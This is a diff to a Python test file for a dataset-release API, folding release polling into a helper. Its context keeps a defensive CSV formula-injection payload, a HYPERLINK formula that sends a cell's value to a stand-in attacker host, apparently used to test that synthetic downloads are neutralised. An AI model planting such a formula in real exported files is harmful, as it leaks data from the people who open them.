@@ -21,7 +21,7 @@ from tests.conftest import Caller
 from tests.datasets.helpers import SCHEMA, csv_bytes, upload, with_columns
 from tests.datasets.test_graphs import upload_graph
 from tests.datasets.test_upload import assert_nothing_stored
-from tests.releases.helpers import request_release, run_all, services_of
+from tests.releases.helpers import finished_release, services_of
 
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A2,"click")'
 AS_FORMULA = "a spreadsheet opening the synthetic CSV would run it as a formula"
@@ -222,12 +222,7 @@ def test_a_dataset_declared_before_the_rule_is_read_released_and_downloaded(
     body = {"mechanism": "randomized_response", "epsilon": 2.0}
     preview = client.post(f"/v1/datasets/{dataset_id}/preview", headers=curator.headers, json=body)
     assert preview.status_code == 200, preview.text
-    release = request_release(client, curator, dataset_id, body)
-    assert release.status_code == 202, release.text
-    release_id = release.json()["id"]
-    run_all(client, release_id)
-    done = client.get(f"/v1/releases/{release_id}", headers=analyst.headers).json()
-    assert done["status"] == "succeeded", done
+    release_id = finished_release(client, curator, dataset_id, body, reader=analyst)["id"]
     download = client.get(f"/v1/releases/{release_id}/synthetic", headers=analyst.headers)
     assert download.status_code == 200, download.text
     sample = pacsv.read_csv(io.BytesIO(download.content))
